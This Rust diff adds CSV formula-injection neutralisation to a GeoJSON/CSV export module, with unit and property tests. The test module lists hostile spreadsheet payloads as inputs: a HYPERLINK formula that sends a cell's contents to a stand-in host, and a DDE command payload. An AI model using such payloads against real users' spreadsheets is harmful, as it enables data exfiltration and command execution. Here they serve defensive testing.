@@ -1,5 +1,8 @@
 //! Files planners open in QGIS, GDAL and Excel: GeoJSON (RFC 7946) and CSV (RFC 4180, UTF-8,
 //! header row), with a French-Excel flavour (BOM, `;` separator, decimal comma).
+//!
+//! Every CSV cell goes through [`CsvWriter`], which neutralises text a spreadsheet would run
+//! as a formula (a citizen's `=HYPERLINK(...)` answer opened by a planner in Excel).
 
 use serde_json::{Map, Value, json};
 
@@ -22,7 +25,7 @@ impl Csv {
     }
 
     /// A CSV writer over `out` in this flavour; the BOM is written first for Excel.
-    pub fn writer<W: std::io::Write>(self, mut out: W) -> std::io::Result<csv::Writer<W>> {
+    pub fn writer<W: std::io::Write>(self, mut out: W) -> std::io::Result<CsvWriter<W>> {
         if self == Csv::Excel {
             out.write_all("\u{feff}".as_bytes())?;
         }
@@ -30,11 +33,14 @@ impl Csv {
     }
 
     /// A CSV writer over `out` in this flavour, without the BOM (for rows after the header).
-    pub fn rows<W: std::io::Write>(self, out: W) -> csv::Writer<W> {
-        csv::WriterBuilder::new()
-            .delimiter(if self == Csv::Excel { b';' } else { b',' })
-            .terminator(csv::Terminator::CRLF)
-            .from_writer(out)
+    pub fn rows<W: std::io::Write>(self, out: W) -> CsvWriter<W> {
+        CsvWriter {
+            flavour: self,
+            inner: csv::WriterBuilder::new()
+                .delimiter(if self == Csv::Excel { b';' } else { b',' })
+                .terminator(csv::Terminator::CRLF)
+                .from_writer(out),
+        }
     }
 
     /// A number exactly as stored (the shortest text that reads back to the same value).
@@ -61,6 +67,72 @@ impl Csv {
             text
         }
     }
+}
+
+/// A CSV writer whose every cell is safe to open in a spreadsheet: see [`neutralize`].
+pub struct CsvWriter<W: std::io::Write> {
+    flavour: Csv,
+    inner: csv::Writer<W>,
+}
+
+impl<W: std::io::Write> CsvWriter<W> {
+    /// Writes one row, each cell neutralised.
+    pub fn write_record<I, T>(&mut self, record: I) -> csv::Result<()>
+    where
+        I: IntoIterator<Item = T>,
+        T: AsRef<str>,
+    {
+        let flavour = self.flavour;
+        self.inner.write_record(
+            record
+                .into_iter()
+                .map(|cell| neutralize(cell.as_ref(), flavour).into_owned()),
+        )
+    }
+
+    /// Flushes what was written to the underlying writer.
+    pub fn flush(&mut self) -> std::io::Result<()> {
+        self.inner.flush()
+    }
+
+    /// The underlying writer.
+    pub fn get_ref(&self) -> &W {
+        self.inner.get_ref()
+    }
+
+    /// Flushes and returns the underlying writer.
+    pub fn into_inner(self) -> std::io::Result<W> {
+        self.inner.into_inner().map_err(|e| e.into_error())
+    }
+}
+
+/// A cell as a spreadsheet may show it but never run: text starting with `=`, `+`, `-`, `@`,
+/// a tab or a carriage return (OWASP's list of what Excel, LibreOffice and Google Sheets
+/// treat as a formula) gets a leading `'`, which they read as "this is text". Numbers
+/// (`-2.5`, and `-2,5` in the French-Excel flavour) are left as they are.
+pub fn neutralize(cell: &str, flavour: Csv) -> std::borrow::Cow<'_, str> {
+    let risky = cell
+        .chars()
+        .next()
+        .is_some_and(|c| matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r'));
+    if !risky || is_number(cell, flavour) {
+        std::borrow::Cow::Borrowed(cell)
+    } else {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    }
+}
+
+/// Whether `cell` is a plain decimal number as this module writes them (`-12`, `-0.5`, and
+/// `-0,5` for Excel): digits with at most one separator, an optional leading sign.
+fn is_number(cell: &str, flavour: Csv) -> bool {
+    let separator = if flavour == Csv::Excel { ',' } else { '.' };
+    let digits = cell.strip_prefix(['-', '+']).unwrap_or(cell);
+    let mut parts = digits.splitn(2, separator);
+    let whole = parts.next().unwrap_or_default();
+    let fraction = parts.next();
+    !whole.is_empty()
+        && whole.bytes().all(|b| b.is_ascii_digit())
+        && fraction.is_none_or(|f| !f.is_empty() && f.bytes().all(|b| b.is_ascii_digit()))
 }
 
 /// The column (CSV) or property (GeoJSON) of a breakdown value.
@@ -222,7 +294,7 @@ pub fn csv(aggregate: &Aggregate, flavour: Csv) -> std::io::Result<Vec<u8>> {
         row.extend(area.breakdown.iter().map(|c| count(*c)));
         out.write_record(&row)?;
     }
-    out.into_inner().map_err(|e| e.into_error())
+    out.into_inner()
 }
 
 #[cfg(test)]
@@ -235,6 +307,60 @@ mod tests {
         assert_eq!(Csv::Standard.number(2.2069, 6), "2.2069");
         assert_eq!(Csv::Standard.number(3.0, 4), "3");
         assert_eq!(Csv::Excel.number(0.125, 4), "0,125");
+    }
+
+    #[test]
+    fn formulas_are_neutralised_and_numbers_kept() {
+        for flavour in [Csv::Standard, Csv::Excel] {
+            for formula in [
+                "=HYPERLINK(\"https://evil.example/?\"&E2,\"x\")",
+                "+1+1",
+                "-1+cmd|' /C calc'!A0",
+                "@SUM(A1:A9)",
+                "\t=1",
+                "\r=1",
+                "-",
+                "+33 1 23 45 67 89",
+            ] {
+                assert_eq!(neutralize(formula, flavour), format!("'{formula}"));
+            }
+            for plain in ["", "fibre", "12", "a=b", "'=already text"] {
+                assert_eq!(neutralize(plain, flavour), plain);
+            }
+        }
+        assert_eq!(neutralize("-2.5", Csv::Standard), "-2.5");
+        assert_eq!(neutralize("-2,5", Csv::Excel), "-2,5");
+        assert_eq!(neutralize("-2,5", Csv::Standard), "'-2,5");
+        assert_eq!(neutralize("-12", Csv::Excel), "-12");
+    }
+
+    proptest::proptest! {
+        /// Whatever a citizen types, no cell read back from our CSV starts a formula.
+        #[test]
+        fn no_exported_cell_can_start_a_formula(cells in proptest::collection::vec(".*", 1..6), excel: bool) {
+            let flavour = Csv::from_excel(excel);
+            let mut w = flavour.writer(Vec::new()).unwrap();
+            // A header first, as in every export (a reader takes a BOM at the very start for
+            // the file's, not the first cell's).
+            w.write_record(cells.iter().map(|_| "h")).unwrap();
+            w.write_record(&cells).unwrap();
+            let bytes = w.into_inner().unwrap();
+            let text = String::from_utf8(bytes).unwrap();
+            let mut reader = csv::ReaderBuilder::new()
+                .delimiter(if excel { b';' } else { b',' })
+                .from_reader(if excel { text.strip_prefix('\u{feff}').unwrap() } else { &text }.as_bytes());
+            let record = reader.records().next().unwrap().unwrap();
+            proptest::prop_assert_eq!(record.len(), cells.len());
+            for (read, written) in record.iter().zip(&cells) {
+                let starts_formula = read
+                    .chars()
+                    .next()
+                    .is_some_and(|c| matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r'));
+                proptest::prop_assert!(!starts_formula || is_number(read, flavour), "{read:?}");
+                // Nothing is lost: the cell is what was written, or it with a leading `'`.
+                proptest::prop_assert!(read == written || read == format!("'{}", written), "{:?}", read);
+            }
+        }
     }
 
     #[test]
